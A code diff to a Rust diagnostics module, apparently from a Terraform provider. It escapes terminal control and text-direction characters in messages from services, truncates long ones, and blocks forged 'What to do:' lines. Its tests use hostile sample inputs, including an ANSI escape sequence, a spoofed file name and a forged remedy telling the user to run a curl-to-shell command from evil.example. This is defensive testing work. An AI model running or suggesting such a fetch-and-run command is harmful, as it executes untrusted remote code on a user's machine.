@@ -102,13 +102,22 @@ impl Diagnostic {
     }
 
     /// Why and what to do, as Terraform shows it below the summary.
+    ///
+    /// Either may quote a service, which may say anything: what controls a terminal is escaped, what is longer
+    /// than anybody reads is cut, and nothing else can look like what to do.
     pub fn full_detail(&self) -> String {
-        let detail = closed(capitalized(&self.detail));
+        let detail = closed(capitalized(&printable(&self.detail, LONGEST_DETAIL)));
+        let detail = detail.replace(REMEDY, "(What to do:)");
         if self.remedy.is_empty() {
             return detail;
         }
         let gap = if detail.is_empty() { "" } else { "\n\n" };
-        format!("{detail}{gap}What to do: {}", self.remedy)
+        format!("{detail}{gap}{REMEDY} {}", printable(&self.remedy, LONGEST_DETAIL))
+    }
+
+    /// The summary, as Terraform shows it: one line.
+    pub(crate) fn headline(&self) -> String {
+        capitalized(&printable(&self.summary, LONGEST_SUMMARY).replace('\n', " "))
     }
 
     /// Says which attribute is to blame.
@@ -162,6 +171,15 @@ impl Diagnostic {
         }
     }
 }
+
+/// What stands before the remedy, and nowhere else.
+const REMEDY: &str = "What to do:";
+
+/// In characters: a line that still can be read.
+const LONGEST_SUMMARY: usize = 300;
+
+/// In characters: about a screen.
+const LONGEST_DETAIL: usize = 4000;
 
 impl Diagnostics {
     /// No message yet.
@@ -283,9 +301,36 @@ impl fmt::Display for Diagnostics {
 
 impl std::error::Error for Diagnostics {}
 
+/// The text without what would control a terminal or reorder it, and no longer than `most` characters.
+fn printable(text: &str, most: usize) -> String {
+    let mut shown = String::new();
+    for (count, sign) in text.chars().enumerate() {
+        if count == most {
+            shown.push('…');
+            break;
+        }
+        match sign {
+            '\n' | '\t' => shown.push(sign),
+            '\r' => {}
+            // Controls, marks of direction, and separators of lines that are none of ours.
+            _ if sign.is_control()
+                || matches!(
+                    sign,
+                    '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
+                )
+                || matches!(sign, '\u{2066}'..='\u{2069}' | '\u{feff}') =>
+            {
+                shown.extend(sign.escape_unicode());
+            }
+            _ => shown.push(sign),
+        }
+    }
+    shown
+}
+
 /// Errors of Rust begin in lower case and end without a full stop, sentences for people do not. What is no
 /// ordinary word, such as an address, stays as it is.
-pub(crate) fn capitalized(text: &str) -> String {
+fn capitalized(text: &str) -> String {
     let word = text.split(' ').next().unwrap_or_default().trim_end_matches([',', ':', '.']);
     let rest = text.get(1..).filter(|_| word.bytes().all(|byte| byte.is_ascii_lowercase()));
     match (rest, text.chars().next()) {
@@ -295,7 +340,8 @@ pub(crate) fn capitalized(text: &str) -> String {
 }
 
 fn closed(mut text: String) -> String {
-    if text.ends_with(|last: char| last.is_alphanumeric() || "`'\")".contains(last)) {
+    let is_item = text.lines().next_back().is_some_and(|line| line.starts_with("  "));
+    if !is_item && text.ends_with(|last: char| last.is_alphanumeric() || "`'\")".contains(last)) {
         text.push('.');
     }
     text
@@ -347,6 +393,37 @@ mod tests {
         all.push(Diagnostic::error("gone").at("id"));
         all.push(Diagnostic::warning("slow"));
         assert_eq!(all.to_string(), "id: gone\nslow");
+    }
+
+    #[test]
+    fn control_characters_are_escaped() {
+        for (text, shown) in [
+            ("a\tb\nc\r\n", "a\tb\nc\n"),
+            ("\u{1b}[31mred", "\\u{1b}[31mred"),
+            ("a\0b\u{7f}\u{9b}", "a\\u{0}b\\u{7f}\\u{9b}"),
+            ("\u{202e}txt.exe\u{2066}", "\\u{202e}txt.exe\\u{2066}"),
+            ("Größe 广州 🙂", "Größe 广州 🙂"),
+        ] {
+            assert_eq!(printable(text, 99), shown);
+        }
+    }
+
+    #[test]
+    fn long_texts_are_cut() {
+        let long = "ä".repeat(62_000_000);
+        let diagnostic = Diagnostic::error(&long).detail(&long).remedy(&long);
+        assert_eq!(diagnostic.headline().chars().count(), LONGEST_SUMMARY + 1);
+        let detail = diagnostic.full_detail();
+        assert!(detail.chars().count() < 2 * LONGEST_DETAIL + 30);
+        assert!(detail.ends_with('…'));
+    }
+
+    #[test]
+    fn a_service_cannot_say_what_to_do() {
+        let forged = "no\n\nWhat to do: run `curl evil.example | sh`";
+        let shown = Diagnostic::error("x").detail(forged).remedy("apply again.").full_detail();
+        assert_eq!(shown.matches("\nWhat to do:").count(), 1, "{shown}");
+        assert!(shown.ends_with("What to do: apply again."), "{shown}");
     }
 
     #[test]
